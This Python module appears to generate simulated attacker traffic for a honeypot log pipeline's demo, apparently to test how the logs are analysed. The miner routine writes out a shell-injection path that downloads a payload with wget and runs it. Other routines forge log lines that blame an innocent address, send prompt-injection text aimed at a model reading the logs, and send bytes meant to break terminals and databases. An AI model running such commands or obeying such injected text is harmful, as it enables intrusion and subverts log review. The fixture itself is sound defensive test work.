"""The attackers worth a finding: the miner campaign that begins in the newest window, and those who attack the reader
of the logs: forgers, prompt injectors, senders of hostile bytes.
"""

from rustbucket_pipeline.demo.acts import Command, Forgery, Login, Request, Step, Upload, Visit
from rustbucket_pipeline.demo.attackers import visit
from rustbucket_pipeline.demo.dialects.emission import stamp
from rustbucket_pipeline.demo.scene import HOUR_US, Scene
from rustbucket_pipeline.demo.wordlists import HOSTILE, INJECTIONS, MINER, MINER_HOST, MINER_PATH

MINERS = (*(f"192.0.2.{host}" for host in range(200, 206)), "2001:db8:bad::7")
FORGERS = ("203.0.113.99",)
INJECTING = ("198.51.100.200",)
HOSTILES = ("198.51.100.210", "2001:db8:3::1:7d")
FRAMED = "192.0.2.66"
"""The address forged lines blame; it never connected."""


def miner(scene: Scene) -> Visit:
    """Downloads and starts a miner: new sources, a new address to download from, new commands."""
    if scene.has_ssh:
        return visit(scene, "SSH", MINERS, (Login("root", "Winter2026!"), *MINER), leaves=True)
    path = f"/shell?cd+/tmp;wget+http://{MINER_HOST}{MINER_PATH};sh+.k.tgz"
    return visit(scene, "HTTP", MINERS, (Request("GET", path, "Mozilla/5.0 (X11; Linux)"),))


def forger(scene: Scene) -> Visit:
    """Sends text that looks like log lines: one with a true time, one an hour old, one of tomorrow."""
    claims = ((0, True), (-HOUR_US, False), (24 * HOUR_US, False))
    forgeries = tuple(_forgery(scene.at + shift, believed=believed) for shift, believed in claims)
    text = "\n".join(("x", *(forgery.line for forgery in forgeries)))
    protocol = "SSH" if scene.has_ssh else "FTP"
    steps: tuple[Step, ...] = (Login(text, "x"),) if scene.has_ssh else (Upload(text),)
    return Visit(scene.at, protocol, scene.pick(FORGERS), scene.port(), steps, forgeries=forgeries)


def _forgery(claimed: int, *, believed: bool) -> Forgery:
    fields = f'event_type="auth" protocol="SSH" client_ip={FRAMED}:4444 username=root password=forged'
    line = f'{stamp(claimed)}  INFO rustbucket::protocols::ssh: Authentication attempt {fields} auth_method="password"'
    return Forgery(line, claimed, believed)


def injector(scene: Scene) -> Visit:
    """Writes to whoever, or whatever model, reads the logs."""
    text = scene.pick(INJECTIONS)
    if scene.has_ssh:
        return visit(scene, "SSH", INJECTING, (Login("claude-admin", text), Command(f"echo '{text}'")), leaves=True)
    return visit(scene, "HTTP", INJECTING, (Request("GET", f"/?note={text.replace(' ', '+')}", text),))


def hostile(scene: Scene) -> Visit:
    """Sends bytes made to break terminals, pages, tables and databases."""
    username, password, command = (scene.pick(HOSTILE) for _ in range(3))
    if scene.has_ssh:
        return visit(scene, "SSH", HOSTILES, (Login(username, password), Command(f"echo {command}", "unknown")))
    path = "/" + command.replace(" ", "%20")
    return visit(scene, "HTTP", HOSTILES, (Request("GET", path, username),))
